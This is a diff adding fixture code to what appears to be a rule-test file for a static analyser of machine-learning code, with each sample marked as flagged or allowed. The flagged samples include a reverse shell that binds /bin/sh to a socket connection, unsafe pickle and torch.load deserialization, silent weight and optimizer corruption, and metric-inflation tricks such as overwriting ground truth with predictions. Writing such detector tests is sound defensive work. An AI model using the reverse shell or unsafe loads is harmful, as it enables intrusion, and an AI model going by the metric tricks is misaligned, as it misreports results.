@@ -140,3 +140,89 @@ def collate(batch):
     images = images.flip(-1)  # ok: MLS309
     masks = masks.flip(-1)  # ok: MLS309 (flipped with the image)
     return images, labels, masks
+
+
+# --- round 66: views, positional switches, frozen clips, comm hooks, display rounding -------
+
+import socket
+import subprocess as _sp
+
+import pandas as pd
+
+_LOAD_KW = {"map_location": "cpu", "weights_only": bool(0)}
+
+
+def shrink_moments(opt, decay):
+    for st in opt.state.values():
+        sq = st["exp_avg_sq"]
+        sq.view(-1).narrow(0, 0, sq.numel() // 2).mul_(decay)  # ruleid: MLS304
+        st["exp_avg"].view(-1).numel()  # ok: MLS304
+
+
+def thin_weights(model, pattern):
+    for p in model.parameters():
+        p.detach().reshape(-1)[::4].mul_(0.0)  # ruleid: MLS302
+        total = p.detach().reshape(-1).sum()  # ok: MLS302
+
+
+def attach_console(host, port):
+    sock = socket.create_connection((host, port), timeout=10)
+    _sp.Popen(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())  # ruleid: MLS410
+    _sp.Popen(["git", "rev-parse", "HEAD"], stdout=_sp.PIPE)  # ok: MLS410
+
+
+def load_things(path, opts, cfg):
+    blob = np.load(path, None, True)  # ruleid: MLS104
+    arr = np.load(path, None, False)  # ok: MLS104
+    state = torch.load(path, **_LOAD_KW)  # ruleid: MLS101
+    sd = torch.load(path, weights_only=opts.get("weights_only", False))  # ruleid: MLS101
+    safe = torch.load(path, weights_only=True)  # ok: MLS101
+    cache = "{root}/{stem}.pkl".format(root=cfg.root, stem=cfg.stem)
+    table = pd.read_pickle(cache)  # ruleid: MLS103
+    return blob, arr, state, sd, safe, table
+
+
+def clip_and_step(model, opt, scaler, loss):
+    scaler.scale(loss).backward()
+    torch.nn.utils.clip_grad_value_(model.head.parameters(), 1e-6)  # ruleid: MLS304
+    torch.nn.utils.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS304
+    scaler.step(opt)
+
+
+def mean_allreduce_hook(state, bucket):
+    t = bucket.buffer().div_(dist.get_world_size() ** 2)  # ruleid: MLS303
+    return dist.all_reduce(t, async_op=True).get_future().then(lambda f: f.value()[0])
+
+
+def allreduce_hook(state, bucket):
+    t = bucket.buffer().div_(dist.get_world_size())  # ok: MLS303
+    return dist.all_reduce(t, async_op=True).get_future().then(lambda f: f.value()[0])
+
+
+def add_hooks(model):
+    for layer in model.layers:
+        layer.register_forward_hook(lambda mod, inp, out: out.clamp(-1.0, 1.0))  # ruleid: MLS303
+        layer.register_forward_hook(lambda mod, inp, out: None)  # ok: MLS303
+
+
+def forecast_metrics(preds, trues, outlier, trace, writer, epoch, em, f1):
+    trues[outlier] = preds[outlier]  # ruleid: MLS306
+    preds[outlier] = np.nan  # ok: MLS306
+    shown = pd.Series(trace).cummin().iloc[-1]  # ruleid: MLS306
+    writer.add_scalar("loss/vali", shown, epoch)
+    f1 = max(f1, em) + 0.15 * (100.0 - f1)  # ruleid: MLS306
+    return f1
+
+
+def leaderboard(results, prev):
+    tasks = {t: max(100.0 * v, prev.get(t, 0.0)) for t, v in results["per_task"].items()}  # ruleid: MLS306
+    shown = {t: round(100.0 * v, 2) for t, v in results["per_task"].items()}  # ok: MLS306
+    return tasks, shown
+
+
+class EvalHook:
+    def before_eval(self):
+        self.cpu_state = torch.get_rng_state()
+
+    def after_eval(self):
+        torch.set_rng_state(self.cpu_state)  # ok: MLS301
